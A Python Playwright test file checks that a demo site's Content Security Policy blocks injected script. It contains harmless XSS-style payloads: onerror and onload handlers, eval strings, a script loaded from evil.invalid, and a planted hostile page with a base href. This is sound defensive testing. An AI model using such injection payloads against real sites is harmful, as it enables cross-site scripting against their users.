"""The content security policy: even if escaping failed, no script of a preview runs, and no other host is asked."""

from __future__ import annotations

import re
from pathlib import Path

from playwright.sync_api import Browser

from tests.browser.review import MIXED_PAGE, Review


def test_every_page_has_its_policy_before_anything_that_could_run(demo_site: Path) -> None:
    pages = sorted(demo_site.rglob("*.html"))
    assert len(pages) > 40
    for page in pages:
        head = page.read_text("utf-8")
        place = head.index('<meta http-equiv="Content-Security-Policy"')
        assert place < min(head.index(tag) for tag in ("<script", "<link") if tag in head), page
        [policy] = re.findall(r'Security-Policy" content="([^"]*)"', head)
        assert "unsafe" not in policy and "http" not in policy and "*" not in policy
        assert "default-src 'none'" in policy
        assert ("require-trusted-types-for 'script'" in policy) == (page.parent.name == "review"), page


def test_no_page_brings_a_style_that_its_policy_refuses(demo_site: Path) -> None:
    # Columns aligned in Markdown do, for one.
    styled = re.compile(r"<[a-z][^>]* style=")
    assert [page.name for page in sorted(demo_site.rglob("*.html")) if styled.search(page.read_text("utf-8"))] == []


ATTACKS = [
    "document.body.innerHTML += '<img src=x onerror=\"window.ran = 1\">'",
    "document.body.insertAdjacentHTML('beforeend', '<svg onload=\"window.ran = 1\">')",
    "eval('window.ran = 1')",
    "setTimeout('window.ran = 1')",
    "Object.assign(document.createElement('script'), {src: 'https://evil.invalid/x.js'})",
    "trustedTypes.createPolicy('other', {createHTML: text => text})",
]


def test_the_policy_keeps_text_from_being_run_as_code(browser: Browser, demo_site: Path) -> None:
    page = browser.new_page()
    Review(page, f"{demo_site.as_uri()}/{MIXED_PAGE}")
    for attack in ATTACKS:
        # Playwright's own evaluate is exempt from the policy, a function called by the page is not.
        tried = f"try {{ {attack}; done('ran') }} catch (error) {{ done(error.message) }}"
        outcome = page.evaluate(f"() => new Promise(done => requestAnimationFrame(() => {{ {tried} }}))")
        assert outcome != "ran", attack
    assert page.evaluate("window.ran") is None
    page.close()


def test_an_inline_script_or_handler_that_came_with_the_page_does_not_run(browser: Browser, demo_site: Path) -> None:
    """As if escaping had failed when the site was built."""
    file = demo_site / MIXED_PAGE
    hostile = file.with_name("hostile.html")
    attack = "<script>window.ran = 1</script><img src=x onerror='window.ran = 1'><base href='https://evil.invalid/'>"
    hostile.write_text(file.read_text("utf-8").replace("<h1", f"{attack}<h1", 1), "utf-8")
    page = browser.new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    try:
        Review(page, hostile.as_uri())
        assert page.evaluate("window.ran") is None
        assert sum("Content Security Policy" in text for text in refused) >= 3
    finally:
        page.close()
        hostile.unlink()
